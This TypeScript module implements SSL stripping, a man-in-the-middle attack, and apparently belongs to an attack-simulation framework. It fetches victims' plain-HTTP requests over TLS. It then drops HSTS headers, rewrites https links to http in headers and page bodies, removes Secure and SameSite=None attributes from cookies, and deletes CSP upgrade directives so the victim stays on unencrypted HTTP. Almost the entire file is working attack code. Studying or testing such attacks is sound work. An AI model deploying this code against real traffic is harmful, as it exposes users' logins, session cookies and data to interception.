import { dropHeader, rawHeaderValue } from '../leash/raw-headers.ts';
import type { RawHeaders } from '../leash/raw-headers.ts';
import type { NamedAttack, Situation } from './attack.ts';
import type { InterceptedExchange } from './intercepted-exchange.ts';

/**
 * SSL stripping (Marlinspike, 2009; the threat of RFC 6797, section 2.3.1): the victim's requests in
 * clear are fetched from the bank over TLS, and whatever in the answers would lead the victim to TLS is
 * taken out. TLS that comes all the same is passed on sealed. Cookies with a `__Host-` or `__Secure-`
 * name and bodies in a content coding that was not asked for are left as they are.
 */
export const strip = {
  word: 'strip',
  meaning: 'keeps the victim on http',
  tls: 'tunnel',
  fetches: (logical) => (logical.endsWith(':80') ? logical.replace(/80$/, '443') : undefined),
  request: (exchange, situation) => {
    if (situation.fetched !== situation.logical) upgradeRequest(exchange.requestHeaders, situation);
  },
  response: (exchange, situation) => {
    if (situation.fetched !== situation.logical) downgradeResponse(exchange, situation);
  },
} as const satisfies NamedAttack;

/** The bank is to see a request as its own pages over TLS would make it, and to answer it in no coding. */
function upgradeRequest(headers: RawHeaders, { logical }: Situation): void {
  const origin = new RegExp(`^http://${escaped(nameOf(logical))}(:80)?(?=/|$)`, 'i');
  for (const [name, value] of Object.entries(headers)) {
    const lower = name.toLowerCase();
    if (lower === 'accept-encoding') headers[name] = 'identity';
    else if ((lower === 'origin' || lower === 'referer') && typeof value === 'string')
      headers[name] = value.replace(origin, `https://${nameOf(logical)}`);
    else if (lower === 'host' && typeof value === 'string') headers[name] = value.replace(/:(80|443)$/, '');
  }
}

function downgradeResponse(exchange: InterceptedExchange, { logical, report }: Situation): void {
  const { method, target, status, responseHeaders: headers } = exchange;
  const hsts = dropHeader(headers, 'strict-transport-security');

  let links = 0;
  const address = new RegExp(
    String.raw`https:(\\?/\\?/)${escaped(nameOf(logical))}(?::443)?(?!\.?[\w:-])`,
    'gi',
  );
  const downgrade = (text: string): string =>
    text.replace(address, (_found, slashes: string) => {
      links += 1;
      return `http:${slashes}${nameOf(logical)}`;
    });
  let cookies = 0;
  const unsecured = (line: string): string => {
    const open = line.replaceAll(NEEDS_TLS, '');
    if (open.length < line.length) cookies += 1;
    return open;
  };
  for (const [name, value] of Object.entries(headers)) {
    const lower = name.toLowerCase();
    if (lower === 'set-cookie') headers[name] = each(value, unsecured);
    else if (lower === 'content-security-policy')
      headers[name] = each(value, (line) => downgrade(line.replaceAll(UPGRADES, '')));
    else headers[name] = each(value, downgrade);
  }

  const page = nameOf(logical) + target;
  const done = (): void => {
    const [asked, fetched] = [`http://${page}`, `https://${page}`];
    report({ type: 'tls-stripped', asked, fetched, links, cookies, hsts });
  };
  if (method === 'HEAD' || !hasText(status, headers)) {
    done();
    return;
  }
  exchange.rewriteResponseBody((text) => {
    const stripped = downgrade(text.replaceAll(POLICY, (meta) => meta.replaceAll(UPGRADES, '$1')));
    done();
    return stripped;
  }, done);
}

/** Attributes that a browser takes from an answer over TLS only (RFC 6265bis, section 5.7), where `Secure` counts whatever its value. */
const NEEDS_TLS = /;\s*(?:secure\s*(?:=[^;]*)?|samesite\s*=\s*none|partitioned)\s*(?=;|$)/gi;

/** Directives that would lead a page's links or its pictures to TLS. */
const UPGRADES = /(^|;|["'])\s*(?:upgrade-insecure-requests|block-all-mixed-content)\s*(?=;|["']|$)/gi;

/** Where a page states a policy in its HTML (CSP Level 3, section 3.3). */
const POLICY = /<meta\b[^<>]*http-equiv\s*=\s*["']?content-security-policy\b[^<>]*>/gi;

const TEXT = /^(?:text\/|application\/(?:javascript|json|xml|xhtml\+xml)\b)/i;

/** Whether an answer has a body, and one in which addresses can be read. */
function hasText(status: number, headers: RawHeaders): boolean {
  const coding = rawHeaderValue(headers, 'content-encoding') ?? 'identity';
  const bodiless = status < 200 || status === 204 || status === 304;
  return (
    !bodiless &&
    coding.toLowerCase() === 'identity' &&
    TEXT.test(rawHeaderValue(headers, 'content-type') ?? '')
  );
}

function each(value: string | string[], change: (line: string) => string): string | string[] {
  return typeof value === 'string' ? change(value) : value.map(change);
}

function nameOf(logical: string): string {
  return logical.replace(/:\d+$/, '');
}

function escaped(name: string): string {
  return name.replaceAll('.', String.raw`\.`);
}
